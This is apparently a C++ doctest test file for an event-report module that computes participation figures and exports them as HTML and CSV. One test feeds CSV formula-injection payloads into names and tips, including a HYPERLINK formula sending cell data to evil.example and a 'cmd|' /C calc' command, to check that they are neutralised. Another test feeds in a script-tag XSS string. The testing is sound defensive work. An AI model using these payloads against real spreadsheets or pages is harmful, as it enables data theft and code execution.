// The L&D report against a known event: every figure worked out by hand from the posts below.
#include <doctest/doctest.h>

#include <algorithm>
#include <cctype>
#include <sstream>

#include "learnwall/report.hpp"
#include "learnwall/text.hpp"
#include "test_util.hpp"

namespace {

using namespace lw;

struct EventBuilder {
    State s;
    std::uint64_t rev = 0;

    EventBuilder() {
        s.event = test::sample_event();  // 18 to 24 May 2026, Europe/London (UTC+1), challenge on the 18th: #tipmonday
        s.roster.people = {{"Ana Lima", "Finance", "ana@social.example", "", "", ""},
                           {"Ben Ode", "Finance", "", "ben.bsky.social", "", ""},
                           {"Cleo Park", "Sales", "", "", "cleo", ""},
                           {"Dan Roy", "Sales", "", "", "", ""},
                           {"Eve Diaz", "", "eve@social.example", "", "", "", "anonymous"}};
    }

    std::string post(const std::string& source, const std::string& handle, const std::string& text,
                     const std::string& at, int likes = 0, bool reply = false, const std::string& display = "") {
        Post p;
        p.source = source;
        p.native_id = std::to_string(++rev);
        p.author_handle = handle;
        p.author_display_name = display;
        p.text = text;
        p.hashtags = extract_hashtags(text);
        p.created_at = *parse_rfc3339(at);
        p.like_count = likes;
        p.is_reply = reply;
        JournalEntry e;
        e.kind = JournalEntry::Kind::post_ingested;
        e.rev = rev;
        e.at = p.created_at;
        e.post = p;
        apply_entry(s, e);
        return p.id();
    }

    void decide(const std::string& id, const std::string& action, const std::string& by = "moira") {
        JournalEntry e;
        e.kind = JournalEntry::Kind::moderation;
        e.rev = ++rev;
        e.decision = ModerationDecision{id, action, by, *parse_rfc3339("2026-05-25T09:00:00Z"), ""};
        apply_entry(s, e);
    }
};

EventBuilder known_event() {
    EventBuilder b;
    b.decide(b.post("mastodon", "ana@social.example", "Tip: use keyboard shortcuts for everything #NLAWWeek #tipmonday",
                    "2026-05-18T08:00:00Z", 5),
             "approve");
    b.decide(b.post("bluesky", "ben.bsky.social", "Who knows a good course on spreadsheets? #NLAWWeek",
                    "2026-05-18T09:00:00Z"),
             "approve");
    b.decide(b.post("mastodon", "ana@social.example", "Try the spreadsheets course on the intranet #NLAWWeek",
                    "2026-05-19T10:00:00Z", 0, true),
             "approve");
    b.decide(b.post("x", "cleo", "Tip: block time for learning, every Friday #NLAWWeek #focus", "2026-05-19T11:00:00Z", 9),
             "approve");
    b.decide(b.post("mastodon", "zed@else.example", "Learning spreadsheets together was fun #NLAWWeek #Focus",
                    "2026-05-20T12:00:00Z", 0, false, "Zed"),
             "approve", "rules");
    b.decide(b.post("mastodon", "eve@social.example", "Tip: spreadsheets pivot tables save hours #NLAWWeek",
                    "2026-05-20T13:00:00Z", 7),
             "approve");
    b.decide(b.post("x", "cleo", "buy now cheap #NLAWWeek", "2026-05-20T14:00:00Z"), "reject");
    b.post("bluesky", "ben.bsky.social", "Still pending? #NLAWWeek", "2026-05-21T09:00:00Z");
    // After the event (the 25th in London): approved, but not part of the week's figures.
    b.decide(b.post("mastodon", "ana@social.example", "Late thought #NLAWWeek", "2026-05-25T12:00:00Z"), "approve");
    // 23:30 UTC on the 17th is 00:30 on the 18th in London: the first day of the event.
    b.decide(b.post("mastodon", "ana@social.example", "Morning learners #NLAWWeek", "2026-05-17T23:30:00Z"), "approve");
    return b;
}

}  // namespace

TEST_CASE("[Report] figures of a known event") {
    EventBuilder b = known_event();
    Report r = build_report(b.s, *parse_rfc3339("2026-05-26T10:00:00Z"));

    SUBCASE("participants, unique and as a share of the roster") {
        CHECK(r.posts == 7);
        CHECK(r.participants == 5);  // Ana, Ben, Cleo, Eve and Zed (outside the roster)
        CHECK(r.roster_size == 5);
        CHECK(r.roster_participants == 4);
        CHECK(r.outside_roster == 1);
        CHECK(r.roster_share == doctest::Approx(0.8));
    }
    SUBCASE("per team, the best share first") {
        REQUIRE(r.teams.size() == 3);
        CHECK(r.teams[0].team == "(no team)");
        CHECK(r.teams[0].participants == 1);
        CHECK(r.teams[1].team == "Finance");
        CHECK(r.teams[1].roster_members == 2);
        CHECK(r.teams[1].participants == 2);
        CHECK(r.teams[1].posts == 4);
        CHECK(r.teams[1].share == doctest::Approx(1.0));
        CHECK(r.teams[2].team == "Sales");
        CHECK(r.teams[2].participants == 1);
        CHECK(r.teams[2].share == doctest::Approx(0.5));
    }
    SUBCASE("tips, questions, replies and other, in total and a day, in the event's time zone") {
        CHECK(r.tips == 3);
        CHECK(r.questions == 1);
        CHECK(r.replies == 1);
        CHECK(r.other == 2);
        REQUIRE(r.days.size() == 7);
        CHECK(format_date(r.days[0].date) == "2026-05-18");
        CHECK(r.days[0].posts == 3);
        CHECK(r.days[0].tips == 1);
        CHECK(r.days[0].questions == 1);
        CHECK(r.days[0].other == 1);
        CHECK(r.days[1].posts == 2);
        CHECK(r.days[1].replies == 1);
        CHECK(r.days[2].posts == 2);
        for (size_t i = 3; i < 7; ++i) CHECK(r.days[i].posts == 0);
    }
    SUBCASE("challenge uptake") {
        REQUIRE(r.challenges.size() == 1);
        CHECK(r.challenges[0].tag == "tipmonday");
        CHECK(r.challenges[0].answers == 1);
        CHECK(r.challenges[0].people == 1);
    }
    SUBCASE("top hashtags without the event's own, case folded; top words once per post") {
        REQUIRE(r.top_hashtags.size() == 2);
        CHECK(r.top_hashtags[0].label == "focus");
        CHECK(r.top_hashtags[0].count == 2);
        CHECK(r.top_hashtags[1].label == "tipmonday");
        REQUIRE(r.top_words.size() >= 3);
        CHECK(r.top_words[0].label == "spreadsheets");
        CHECK(r.top_words[0].count == 4);
        CHECK(r.top_words[1].label == "course");
        CHECK(r.top_words[1].count == 2);
        CHECK(r.top_words[2].label == "learning");
        CHECK(r.top_words[2].count == 2);
    }
    SUBCASE("most liked tips, an opted-out author as a colleague") {
        REQUIRE(r.top_tips.size() == 3);
        CHECK(r.top_tips[0].author == "Cleo Park");
        CHECK(r.top_tips[0].likes == 9);
        CHECK(r.top_tips[1].author == "a colleague");
        CHECK(r.top_tips[2].author == "Ana Lima");
    }
    SUBCASE("moderation volume") {
        CHECK(r.moderation.approved == 8);
        CHECK(r.moderation.rejected == 1);
        CHECK(r.moderation.pending == 1);
        CHECK(r.moderation.decisions == 9);
        CHECK(r.moderation.automatic == 1);
        REQUIRE(!r.moderation.by_person.empty());
        CHECK(r.moderation.by_person[0].label == "moira");
        CHECK(r.moderation.by_person[0].count == 8);
    }
}

TEST_CASE("[Report] hidden people are counted but never named") {
    EventBuilder b = known_event();
    b.s.roster.people[2].opt_out = "hidden";  // Cleo
    Report r = build_report(b.s, now());
    CHECK(r.participants == 5);
    for (const auto& t : r.top_tips) CHECK(t.author != "Cleo Park");
    CHECK(r.top_tips.size() == 2);
}

TEST_CASE("[Report] HTML is self-contained and escaped; CSV carries the same figures") {
    EventBuilder b = known_event();
    b.s.event.name = "Learning <at> Work & Week";
    Report r = build_report(b.s, *parse_rfc3339("2026-05-26T10:00:00Z"));
    std::string html = report_html(r);
    CHECK(html.rfind("<!DOCTYPE html>", 0) == 0);
    CHECK(html.find("Learning &lt;at&gt; Work &amp; Week") != std::string::npos);
    CHECK(html.find("<at>") == std::string::npos);
    CHECK(html.find("<svg") != std::string::npos);
    // Nothing is fetched from elsewhere: no scripts, links, images or remote URLs.
    for (const char* bad : {"<script", "<link", "<img", "http://", "https://", "url("}) CHECK_MESSAGE(html.find(bad) == std::string::npos, bad);
    CHECK(html.find("Cleo Park") != std::string::npos);

    std::string csv = report_csv(r);
    CHECK(csv.rfind("section,label,value,detail\n", 0) == 0);
    CHECK(csv.find("\nparticipants,unique,5,\n") != std::string::npos);
    CHECK(csv.find("\nparticipants,roster_share,0.800,\n") != std::string::npos);
    CHECK(csv.find("\nkinds,tips,3,\n") != std::string::npos);
    CHECK(csv.find("\nteam,Finance,2,members=2;share=1.000;posts=4\n") != std::string::npos);
    CHECK(csv.find("\nday,2026-05-18,3,tips=1;questions=1;replies=0;other=1\n") != std::string::npos);
    CHECK(csv.find("\nchallenge,2026-05-18,1,") != std::string::npos);
    CHECK(csv.find("\nhashtag,#focus,2,\n") != std::string::npos);
    // A tip with a comma is quoted, so spreadsheets read it as one field.
    CHECK(csv.find("\ntop_tip,Cleo Park,9,\"Tip: block time for learning, every Friday #NLAWWeek #focus\"\n") !=
          std::string::npos);
    CHECK(csv.find("\nmoderation,automatic,1,\n") != std::string::npos);
    CHECK(csv.find("\"Learning <at> Work & Week\"") == std::string::npos);  // no comma: plain field
    CHECK(csv.find("\nevent,name,Learning <at> Work & Week,\n") != std::string::npos);
}

TEST_CASE("[Report] an empty event gives zeros, every day, and no division by zero") {
    State s;
    s.event = test::sample_event();
    Report r = build_report(s, now());
    CHECK(r.posts == 0);
    CHECK(r.participants == 0);
    CHECK(r.roster_share == 0);
    CHECK(r.days.size() == 7);
    CHECK(r.teams.empty());
    std::string html = report_html(r);
    CHECK(html.find("No tips yet") != std::string::npos);
    CHECK(html.find("nan") == std::string::npos);
    CHECK(html.find("inf") == std::string::npos);
}

TEST_CASE("[Report] issue 10 item 10: CSV formula injection is neutralised") {
    EventBuilder b;
    b.s.roster.people = {{"Ana Lima", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "ana@social.example", "", "", ""},
                         {"@SUM(1+1)", "+Sales", "", "", "bad", ""}};
    b.decide(b.post("mastodon", "ana@social.example", "-2+3+cmd|' /C calc'!A0 Tip: #NLAWWeek", "2026-05-18T08:00:00Z", 5),
             "approve");
    b.decide(b.post("x", "bad", "\tTip: tabs first #NLAWWeek", "2026-05-18T09:00:00Z", 3), "approve");
    b.decide(b.post("mastodon", "out@else.example", "Tip: from outside the roster #NLAWWeek", "2026-05-18T10:00:00Z", 1,
                    false, "=1+1"),
             "approve");
    Report r = build_report(b.s, *parse_rfc3339("2026-05-25T10:00:00Z"));
    std::string csv = report_csv(r);
    CAPTURE(csv);
    // Team names, top tip authors and tip text: each dangerous cell starts with a quote inside quotes.
    CHECK(csv.find("\nteam,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",") != std::string::npos);
    CHECK(csv.find("\nteam,\"'+Sales\",") != std::string::npos);
    CHECK(csv.find("\ntop_tip,Ana Lima,5,\"'-2+3+cmd|' /C calc'!A0 Tip: #NLAWWeek\"\n") != std::string::npos);
    CHECK(csv.find("\ntop_tip,\"'@SUM(1+1)\",3,\"'\tTip: tabs first #NLAWWeek\"\n") != std::string::npos);
    CHECK(csv.find("\ntop_tip,\"'=1+1\",1,") != std::string::npos);
    // No cell of the file (quotes removed) starts with what a spreadsheet would evaluate.
    std::istringstream lines(csv);
    std::string line;
    while (std::getline(lines, line)) {
        std::vector<std::string> cells(1);
        bool quoted = false;
        for (size_t i = 0; i < line.size(); ++i) {
            char c = line[i];
            if (c == '"' && quoted && i + 1 < line.size() && line[i + 1] == '"') {
                cells.back() += '"';
                ++i;
            } else if (c == '"') {
                quoted = !quoted;
            } else if (c == ',' && !quoted) {
                cells.emplace_back();
            } else {
                cells.back() += c;
            }
        }
        for (const auto& cell : cells)
            if (!cell.empty() && !(cell.size() > 1 && cell[0] == '-' && std::isdigit(static_cast<unsigned char>(cell[1]))))
                CHECK_MESSAGE(std::string("=+-@\t\r").find(cell[0]) == std::string::npos, line);
    }
    // Numbers stay numbers.
    CHECK(csv.find("\nparticipants,unique,3,\n") != std::string::npos);
}

TEST_CASE("[Report] html_escape: one escaper for the report and the share-a-tip page") {
    // A tip or a name typed by a stranger reaches both pages: every character that could open a tag,
    // end an attribute or start an entity is escaped, and everything else (any script) is left alone.
    CHECK(html_escape(R"(<script>alert("x") & 'y'</script>)") ==
          "&lt;script&gt;alert(&quot;x&quot;) &amp; &#39;y&#39;&lt;/script&gt;");
    CHECK(html_escape("Ana Lima · 学习 · مرحبا · 🎉") == "Ana Lima · 学习 · مرحبا · 🎉");
    CHECK(html_escape("&amp;") == "&amp;amp;");
    CHECK(html_escape("").empty());
}
